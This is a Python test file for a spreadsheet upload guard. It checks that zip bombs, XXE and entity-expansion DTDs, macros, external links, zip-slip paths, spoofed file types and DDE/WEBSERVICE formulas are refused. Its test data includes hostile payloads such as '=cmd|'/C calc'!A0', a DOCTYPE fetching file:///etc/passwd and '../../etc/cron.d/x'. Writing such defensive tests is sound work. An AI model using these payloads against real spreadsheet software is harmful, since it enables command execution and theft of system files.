"""Files that may not come in are refused with a sentence, before anything in them is opened."""

import re
import struct
import zipfile
from pathlib import Path

import openpyxl
import pytest
import xlwt
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lumbung.sheets import apart, guard, ole
from lumbung.sheets.opening import open_book
from lumbung.sheets.refusals import Unwelcome

SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData></worksheet>'
)


@pytest.fixture
def clean(tmp_path) -> Path:
    path = tmp_path / "bersih.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["No", "Nama"])
    book.active.append([1, "Siti"])
    book.save(path)
    return path


def with_parts(source: Path, parts: dict[str, bytes | str]) -> Path:
    """A copy of `source` with parts put in or replaced."""
    path = source.with_name("diubah.xlsx")
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.namelist():
            if part not in parts:
                new.writestr(part, old.read(part))
        for part, body in parts.items():
            new.writestr(part, body)
    return path


def refusal(path: Path) -> str:
    with pytest.raises(Unwelcome) as refused:
        open_book(path)
    said = str(refused.value)
    assert re.search(r"[A-Z].*\.$", said), "a whole sentence"
    return said


def test_a_clean_workbook_comes_in(clean):
    assert open_book(clean).sheets[0].rows == [["No", "Nama"], [1.0, "Siti"]]


def test_a_bomb_by_its_declared_size(clean):
    assert refusal(with_parts(clean, {"xl/media/besar.bin": b"\0" * (8 * guard.MIB)})) == guard.BOMB


def test_a_bomb_of_many_parts(clean):
    parts = {f"xl/media/{number}.txt": b"x" for number in range(300)}
    assert refusal(with_parts(clean, parts)) == guard.BOMB


def test_a_part_that_lies_about_its_size(clean):
    path = with_parts(clean, {"xl/media/palsu.bin": bytes(range(256)) * 20_000})
    body = bytearray(path.read_bytes())
    for found in re.finditer(b"palsu.bin", bytes(body)):
        header = body.rfind(b"PK", 0, found.start())
        place = header + (22 if body[header + 2] == 3 else 24)
        body[place : place + 4] = struct.pack("<I", 10)
    path.write_bytes(bytes(body))
    assert refusal(path) == guard.DAMAGED


@pytest.mark.parametrize("body", [
    '<!DOCTYPE a [<!ENTITY b "c">]>' + SHEET % "",
    '<!DOCTYPE lolz [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>' + SHEET % '<row><c><is><t>&b;</t></is></c></row>',
    '<!DOCTYPE a SYSTEM "file:///etc/passwd">' + SHEET % "",
])  # fmt: skip
def test_declarations_that_expand_or_fetch(clean, body):
    assert refusal(with_parts(clean, {"xl/worksheets/sheet1.xml": body})) == guard.FOREIGN_XML


def test_a_declaration_hidden_in_another_coding(clean):
    body = ('<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY b "c">]>' + SHEET % "").encode("utf-16")
    assert refusal(with_parts(clean, {"xl/worksheets/sheet1.xml": body})) == guard.FOREIGN_XML


def test_macros(clean):
    assert refusal(with_parts(clean, {"xl/vbaProject.bin": b"x"})) == guard.MACROS
    assert refusal(clean.rename(clean.with_suffix(".xlsm"))) == guard.MACROS


@pytest.mark.parametrize("part", ["xl/externalLinks/externalLink1.xml", "xl/connections.xml"])
def test_links_to_other_files(clean, part):
    assert refusal(with_parts(clean, {part: b"<x/>"})) == guard.OUTSIDE


def test_a_relation_that_points_outside(clean):
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://x/attachedTemplate" Target="https://jahat.example/t" TargetMode="External"/></Relationships>'
    )
    assert refusal(with_parts(clean, {"xl/worksheets/_rels/sheet1.xml.rels": relation})) == guard.OUTSIDE


def test_a_hyperlink_in_a_cell_is_harmless(tmp_path):
    path = tmp_path / "surel.xlsx"
    book = openpyxl.Workbook()
    book.active["A1"] = "Siti"
    book.active["A1"].hyperlink = "mailto:siti@example.org"
    book.save(path)
    assert open_book(path).sheets[0].rows == [["Siti"]]


@pytest.mark.parametrize(
    "formula", ["=cmd|'/C calc'!A0", '=DDE("cmd";"/C calc";"x")', '=WEBSERVICE("https://jahat.example")']
)
def test_formulas_that_call_outside(tmp_path, formula):
    book = openpyxl.Workbook()
    book.active["A1"] = formula
    book.save(tmp_path / "dde.xlsx")
    assert refusal(tmp_path / "dde.xlsx") == guard.OUTSIDE
    (tmp_path / "dde.csv").write_text(f'No,Nama\n1,"{formula.replace(chr(34), chr(34) * 2)}"\n')
    assert refusal(tmp_path / "dde.csv") == guard.OUTSIDE


def test_a_cell_at_the_far_end_of_the_sheet(tmp_path):
    book = openpyxl.Workbook()
    book.active["A1"], book.active.cell(1_000_000, 16_000).value = "a", "b"
    book.save(tmp_path / "jauh.xlsx")
    assert "jauh di luar tabel" in refusal(tmp_path / "jauh.xlsx")
    old = xlwt.Workbook()
    sheet = old.add_sheet("a")
    sheet.write(0, 0, 1)
    sheet.write(65_535, 255, 1)
    old.save(str(tmp_path / "jauh.xls"))
    assert "jauh di luar tabel" in refusal(tmp_path / "jauh.xls")


def test_repeated_rows_of_an_ods(tmp_path):
    content = (
        '<office:document-content xmlns:office="urn:o" xmlns:table="urn:t"><office:body><office:spreadsheet>'
        '<table:table table:name="a"><table:table-row table:number-rows-repeated="1000000">'
        '<table:table-cell table:number-columns-repeated="1000" office:value-type="float" office:value="1"/>'
        "</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
    )
    path = tmp_path / "ulang.ods"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content)
    assert "jauh di luar tabel" in refusal(path)


@pytest.mark.parametrize(("name", "body"), [
    ("a.xlsx", b"No,Nama\n1,Siti\n"),
    ("a.xlsx", b"%PDF-1.7"),
    ("a.xls", b"<html><table><tr><td>1</td></tr></table></html>"),
    ("a.xls", b"PK\x03\x04aaaa"),
    ("a.ods", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    ("a.csv", b"PK\x03\x04aaaa"),
    ("a.csv", b"\x89PNG\r\n"),
    ("a.csv", b"<!DOCTYPE html><html>"),
    ("a.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    ("a.xlsx", b"PK\x03\x04" + b"\0" * 100),
    ("a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 600),
    ("a.csv", b""),
    ("a.exe", b"MZ"),
    ("a", b"No,Nama"),
])  # fmt: skip
def test_a_file_that_is_not_what_its_name_says(tmp_path, name, body):
    (tmp_path / name).write_bytes(body)
    refusal(tmp_path / name)


def test_another_office_file_under_a_spreadsheets_name(clean):
    word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    types = f'<Types xmlns="x"><Override ContentType="{word}"/></Types>'
    assert "bukan .xlsx" in refusal(with_parts(clean, {"[Content_Types].xml": types}))


def test_an_oversized_file(tmp_path):
    path = tmp_path / "besar.csv"
    path.write_bytes(b"a;b\n" * (guard.MAX_FILE // 4 + 1))
    assert "lebih dari" in refusal(path)


@pytest.mark.parametrize("name", ["../../etc/cron.d/x", "/etc/passwd", "C:\\x", "a/../../b"])
def test_parts_that_climb_out(clean, name):
    assert refusal(with_parts(clean, {name: b"x"})) == guard.DAMAGED


def record(kind: int, body: bytes) -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


@pytest.mark.parametrize(("stream", "said"), [
    (record(0x1AE, b"\x01\x00\x08\x00\x00\x01lain.xls"), guard.OUTSIDE),
    (record(0x2F, b"\x01\x00" + b"\0" * 52), guard.LOCKED),
    (record(0xD3, b""), guard.MACROS),
    (record(0x85, b"\0\0\0\0\0\x01\x01\0a"), guard.MACROS),
])  # fmt: skip
def test_records_of_an_old_workbook_that_may_not_come_in(stream, said):
    with pytest.raises(Unwelcome, match=re.escape(said)):
        ole.check_records(stream)


def test_an_old_workbook_that_speaks_of_itself_comes_in(tmp_path):
    ole.check_records(record(0x1AE, b"\x01\x00\x01\x04"))
    book = xlwt.Workbook()
    book.add_sheet("a").write(0, 0, "Siti")
    book.save(str(tmp_path / "a.xls"))
    assert open_book(tmp_path / "a.xls").sheets[0].rows == [["Siti"]]


@settings(deadline=None, max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    place=st.floats(0, 1),
    junk=st.binary(min_size=1, max_size=40),
    ending=st.sampled_from([".xlsx", ".xls", ".ods", ".csv"]),
)
def test_damage_anywhere_is_refused_or_read_and_nothing_else(clean, place, junk, ending):
    path = clean.with_name(f"rusak{ending}")
    if ending == ".xls":
        book = xlwt.Workbook()
        book.add_sheet("a").write(0, 0, "Siti")
        book.save(str(path))
    else:
        path.write_bytes(clean.read_bytes())
    body = path.read_bytes()
    at = int(place * len(body))
    path.write_bytes(body[:at] + junk + body[at + len(junk) :])
    try:
        open_book(path)
    except Unwelcome as refused:
        assert str(refused)


def test_an_old_workbook_that_kills_its_reader_is_refused_and_the_rest_lives_on(tmp_path, monkeypatch):
    book = xlwt.Workbook()
    book.add_sheet("a").write(0, 0, "Siti")
    book.save(str(tmp_path / "a.xls"))
    monkeypatch.setattr(apart.sys, "executable", "/bin/false")
    assert refusal(tmp_path / "a.xls") == guard.DAMAGED
